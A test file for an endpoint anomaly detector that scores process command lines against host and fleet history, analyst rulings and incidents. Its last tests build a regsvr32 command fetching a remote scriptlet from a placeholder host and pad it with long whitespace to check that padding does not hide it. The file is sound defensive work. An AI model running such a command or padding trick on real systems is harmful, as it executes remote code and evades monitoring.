import { describe, expect, test } from 'vitest'
import { scoreLine } from '@/fixtures/detection/score-lines'
import { DAY, fact, fleetThatKnows, past, ruling, scoreOf, strange, usual } from './example-host-day'
import { exampleSignature } from './example-signature'
import { type FleetDay, foldFleet } from './fold-fleet'

/** What an intruder can have cheaply, and what it must not buy. */
describe('a pattern that a host knows well', () => {
  const knownFor = (hours: number) => ({ history: new Map([[usual.id, past(hours)]]) })

  test('does not speak for the same command line from another folder, by another parent or with another connection', () => {
    const judged = (differing: Parameters<typeof exampleSignature>[0]) => {
      const other = exampleSignature(differing)
      const { history } = knownFor(100)
      return scoreOf(other, {
        history,
        signatures: new Map([usual, other].map((one) => [one.id, one])),
      }).scoreMillibits
    }
    expect(judged({})).toBeLessThan(200)
    expect(
      judged({ imageFolderExpected: false, features: { identity: 'program-data' } }),
    ).toBeGreaterThanOrEqual(4000)
    expect(
      judged({ parentName: 'winword.exe', features: { parent: 'winword.exe @ program-files' } }),
    ).toBeGreaterThanOrEqual(4000)
  })
})

describe('what was ruled an intrusion or a test', () => {
  test('is no practice of the fleet, on however many hosts and days it was', () => {
    const signatures = new Map([[strange.id, strange]])
    const on = (day: number, ...hosts: string[]): FleetDay => ({
      day: DAY + day,
      hosts: hosts.map((host) => ({ host, group: null, facts: [fact(strange)] })),
      signatures,
    })
    const days = [...Array(10).keys()].map((day) => on(day, 'a', 'b', 'c'))
    const later = (effect: 'malicious' | 'test' | null) => {
      const rulingsFor = (host: string) => (effect === null || host === 'd' ? [] : [ruling(strange, effect)])
      return [...foldFleet([...days, on(10, 'd')], { rulingsFor })].at(-1)?.result.rows[0]?.scoreMillibits
    }
    const full = scoreOf(strange).scoreMillibits
    expect([later('malicious'), later('test')]).toEqual([full, full])
    expect(later(null)).toBeLessThan(full)
  })
})

describe('an incident', () => {
  test('does not make what the host did alone before something that others showed', () => {
    const signatures = new Map([[strange.id, strange]])
    const hosts = (incident: boolean) => [
      {
        host: 'a',
        group: null,
        facts: [fact(strange)],
        ...(incident && { incident: { comparedWith: null } }),
      },
    ]
    const days = [...Array(12).keys()].map((day) => ({
      day: DAY + day,
      hosts: hosts(day === 11),
      signatures,
    }))
    const rows = [...foldFleet(days)].map(({ result }) => result.rows[0]?.scoreMillibits ?? 0)
    expect(rows.at(-1)).toBeGreaterThanOrEqual(scoreOf(strange).scoreMillibits)
  })
})

describe('a host that reports for weeks and never used the tool', () => {
  test('is known: what it does for the first time counts as unusual in full', () => {
    const odd = exampleSignature({ pattern: 'c:\\tools\\odd.dll start', parentName: 'agent.exe' })
    const first = (reportedDays: number) =>
      scoreOf(odd, { prevalence: { fleet: fleetThatKnows([usual]), group: null }, reportedDays })
        .scoreMillibits
    expect(first(0)).toBe(0)
    expect(first(7)).toBeGreaterThan(0)
    expect(first(14)).toBeGreaterThan(first(7))
    expect(first(60)).toBe(first(14))
  })
})

describe('blanks and repetition', () => {
  const bitsOf = (commandLine: string) => {
    const line = {
      section: '',
      image: 'C:\\Windows\\System32\\regsvr32.exe',
      originalFileName: 'REGSVR32.EXE',
      commandLine,
      parentImage: 'C:\\Windows\\explorer.exe',
      parentCommandLine: null,
      user: null,
    }
    return (scoreLine(line)?.score.scoreMillibits ?? 0) / 1000
  }
  const attack = '/n /u /i:http://cdn.example.net/x.sct scrobj.dll'

  test('do not hide what follows them', () => {
    const plain = bitsOf(`regsvr32.exe /s ${attack}`)
    expect(bitsOf(`regsvr32.exe /s ${' '.repeat(300)}${attack}`)).toBeGreaterThan(plain)
    expect(bitsOf(`regsvr32.exe /s ${' '.repeat(20_000)}${attack}`)).toBeGreaterThan(plain)
    expect(bitsOf(`regsvr32.exe /s ${'\n'.repeat(9_000)}${attack}`)).toBeGreaterThan(plain)
    expect(bitsOf(`regsvr32.exe ${'/s '.repeat(300)}${attack}`)).toBeGreaterThanOrEqual(plain)
  })
  test('a line that is longer than anything that is read is a deviation by that alone', () => {
    expect(bitsOf(`regsvr32.exe /s ${'x'.repeat(5000)} ${attack}`)).toBeGreaterThanOrEqual(4)
  })
})
